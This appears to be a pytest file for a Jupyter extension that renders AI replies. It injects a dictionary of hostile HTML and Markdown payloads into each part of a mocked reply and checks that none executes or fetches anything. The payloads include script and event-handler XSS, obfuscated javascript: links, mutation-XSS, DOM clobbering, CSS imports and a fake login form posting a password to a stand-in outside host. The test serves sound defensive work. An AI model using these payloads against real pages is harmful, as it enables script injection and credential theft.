"""Answers that want to act in the page, to ask somebody else, or to look like the page: they cannot.

Each text stands in every place of a reply. That the traps work is shown by what other tools do with an answer:
`display(Markdown(answer))`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest
from peer import Answer, Peer, Seen, error, stream

from browser.lab import Page, Server, copy, write
from mimo_magics.messages import Annotation, Message, ReasoningPart, Reply, TextPart

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Locator

OUT = "http://outside.invalid"
HOSTILE = {
    "script": "<script>ran('script')</script>",
    "image": "<img src=x onerror=\"ran('image')\">",
    "drawing": "<svg onload=\"ran('drawing')\"><text y=9>x</text></svg>",
    "fold": "<details open ontoggle=\"ran('fold')\"><summary>x</summary>y</details>",
    "mouse": "<b onmouseover=\"ran('mouse')\">x</b>",
    "click": "<b onclick=\"ran('click')\">x</b>",
    "focus": "<input autofocus onfocus=\"ran('focus')\">",
    "link": '<a href="javascript:ran(\'link\')" target="_self">x</a>',
    "markdown link": "[x](javascript:ran('link')) [x][1] <javascript:ran('link')>\n\n[1]: JaVaScRiPt:ran('link')",
    "veiled link": "[x](&#106;avascript:ran('link')) [x](java\tscript:ran('link')) [x](\x01javascript:ran('link'))",
    "data link": "[x](data:text/html,<script>ran('data')</script>) [x](blob:x)",
    "document": "<iframe srcdoc=\"<script>top.ran('document')</script>\"></iframe>",
    "frame": f'<iframe src="{OUT}/frame"></iframe><object data="{OUT}/object"></object><embed src="{OUT}/embed">',
    "form": "<form action=\"javascript:ran('form')\"><button>Log in</button></form>",
    "sent form": f'<form action="{OUT}/form"><input name="password"><button>Log in</button></form>',
    "style": f"<style>@import url({OUT}/import); body {{ --caught: yes }}</style>",
    "overlay": f'<div style="position:fixed; inset:0; z-index:99; background:url({OUT}/overlay)">Log in</div>',
    "sheet": f'<link rel="stylesheet" href="{OUT}/sheet"><link rel="prefetch" href="{OUT}/prefetch">',
    "font": f'<style>@font-face {{ font-family: f; src: url({OUT}/font) }}</style><p style="font-family:f">x</p>',
    "refresh": f'<meta http-equiv="refresh" content="0; url={OUT}/refresh">',
    "base": f'<base href="{OUT}/base/">',
    "markdown picture": f"![x]({OUT}/markdown) ![x][1] [![x]({OUT}/linked)]({OUT}/there)\n\n[1]: {OUT}/reference",
    "picture": f'<img src="{OUT}/picture"><picture><source srcset="{OUT}/source"><img></picture>',
    "table": f"|![x]({OUT}/head)|\n|-|\n|<img src=x onerror=\"ran('cell')\">|",
    "media": f'<audio src="{OUT}/audio" autoplay></audio><video src="{OUT}/video" poster="{OUT}/poster"></video>',
    "command": '<button data-commandlinker-command="caught" data-commandlinker-args="{}">x</button>',
    "mermaid": f"```mermaid\ngraph TD; a[\"<img src='{OUT}/mermaid' onerror='ran(1)'>\"]\nclick a call ran()\n```",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ran(2)>">',
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=ran('noscript')>\"></noscript>",
    "break": "</div></details></pre><script>ran('break')</script>\n\n```\n</code></pre><script>ran(3)</script>",
    "math": r"$\href{javascript:ran('math')}{x}$ $\style{position:fixed}{x}$ $\class{jp-Dialog}{x}$ $\cssId{a}{x}$",
    "clobber": '<form id="jupyterapp" name="jupyterapp"><input name="commands" id="documentElement"></form>',
    "dress": '<div class="jp-Dialog"><div class="jp-Dialog-content">Password?<input type="password"></div></div>',
}
AWAY = {"base", "refresh", "sent form"}
"""What takes the page away with it when nothing prevents it."""
RUN = "break cell click command document drawing focus fold form image link mouse noscript script"
"""What runs where nothing prevents it."""
ASKED = (
    "audio embed font frame head import linked markdown mermaid object overlay picture poster prefetch "
    "reference sheet source video"
)
"""What is fetched where nothing prevents it."""

PROVOKE = """output => {
    for (const each of output.querySelectorAll('*')) {
        if (each.closest('a')?.getAttribute('href')?.startsWith('http')) continue;
        for (const event of ['mouseover', 'focus', 'toggle', 'error', 'load'])
            each.dispatchEvent(new Event(event));
        each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
    }
}"""
LAST = "url => new Promise(done => Object.assign(new Image(), {onerror: done, src: url}))"
TRAP = "jupyterapp.commands.addCommand('caught', {execute: () => ran('command')})"
STYLED = "getComputedStyle(document.body).getPropertyValue('--caught')"


def script(seen: Seen) -> Answer:
    """Answer with the hostile text that the prompt names, wherever a reply has a place for it."""
    if seen.prompt == "error":
        return error(400, "\n".join(HOSTILE.values()))
    text = HOSTILE[seen.prompt]
    source = Annotation("javascript:ran('source')", text, text, text, text)
    message = Message("assistant", (ReasoningPart(text), TextPart(text)))
    return stream(seen, Reply(message, None, text, text, text, (source,), (text,)))


@pytest.fixture
def page(server: Server, browser: Browser) -> Iterator[Page]:
    with Page(server, browser) as page:
        yield page


def trapped(page: Page) -> list[str]:
    """Return a list that will hold what called `ran`, in whichever frame or window."""
    caught: list[str] = []
    page.window.context.expose_function("ran", lambda name: caught.append(str(name)))
    return caught


def provoke(page: Page, cells: int) -> None:
    """Do with the outputs all that a person could, except following links to the outside; then wait for the last."""
    page.window.evaluate(TRAP)
    for cell in range(cells):
        page.output(cell).evaluate(PROVOKE)
    page.window.evaluate(LAST, f"{OUT}/last")


def asked(page: Page) -> str:
    """What the page wanted from outside, except for the last thing, which we asked for; all is forgiven."""
    paths = {line.removeprefix("GET ").removesuffix(" HTTP/1.1") for line in page.wanted()}
    page.forgive()
    return " ".join(sorted(path.removeprefix(f"{OUT}/") for path in paths - {f"{OUT}/last"}))


def test_the_traps_work(page: Page, server: Server) -> None:
    shown = [text for name, text in HOSTILE.items() if name not in AWAY]
    cells = [f"from IPython.display import Markdown\nMarkdown({text!r})" for text in shown]
    write(server.folder / "traps.ipynb", *cells)
    caught = trapped(page)
    page.open("traps.ipynb")
    page.run_all()
    page.wait_idle()
    provoke(page, len(cells))
    assert " ".join(sorted(set(caught))) == RUN
    assert asked(page) == ASKED
    assert page.window.evaluate(STYLED) == "yes"


TAGS = (
    r"a|blockquote|br|code|del|details|div|em|h[1-6]|hr|li|ol|p|pre|s|small|span|strong|summary|table|tbody|td"
    r"|th|thead|tr|ul"
)
ATTRIBUTES = {
    "align": r"left|center|right",
    "class": r"highlight|jp-RenderedHTMLCommon|numbering-entry|[a-z][a-z0-9]{0,2}|(mathjax|tex2jax)_.*",
    "href": r"http://outside\.invalid/\w+",
    "rel": r"(noopener|noreferrer|nofollow| )+",
    "start": r"\d+",
    "style": r"(text-align|opacity|margin-\w+): ?[\w.]+;?",
    "target": r"_blank|_self",
    "title": r"",
}
"""What may be in a document: the front end's own, and what has neither effect nor looks of its own."""
FOUND = """documents => documents.flatMap(document => [...document.querySelectorAll('*')])
    .filter(each => !each.closest('mjx-container'))
    .flatMap(each => [[each.localName], ...[...each.attributes].map(it => [it.name, it.value])])"""


def odd(documents: Locator) -> list[list[str]]:
    """Tags and attributes in the documents that nobody would have put there with good intent."""
    return [
        each
        for each in documents.evaluate_all(FOUND)
        if not re.fullmatch(TAGS if len(each) == 1 else ATTRIBUTES.get(each[0], "(?!)"), each[-1])
    ]


def check(page: Page, caught: list[str]) -> None:
    documents = page.window.locator(".mimo-reply")
    assert documents.count() == len(HOSTILE)
    assert odd(documents) == []
    provoke(page, len(HOSTILE) + 2)
    assert asked(page) == ""
    assert caught == []
    assert not page.window.evaluate(STYLED)
    assert len(page.window.context.pages) == 1


def test_a_hostile_answer_does_nothing(page: Page, server: Server, browser: Browser, model: Peer) -> None:
    """Neither to the person who asked, whose notebook is trusted, nor to the one who got the file."""
    model.script = script
    cells = [f"%%mimo --no-history\n{name}" for name in HOSTILE]
    write(server.folder / "hostile.ipynb", "%load_ext mimo_magics", *cells, "%%mimo --no-history\nerror")
    caught = trapped(page)
    page.open("hostile.ipynb")
    page.run_all()
    page.wait_idle()
    assert page.is_trusted()
    assert page.output(len(HOSTILE) + 1).inner_text().startswith("BadRequest: ")
    check(page, caught)
    stranger = copy(page.save(), "stranger.ipynb")
    with Page(server, browser) as reader:
        caught = trapped(reader)
        reader.open(stranger.name, kernel=False)
        assert not reader.is_trusted()
        check(reader, caught)
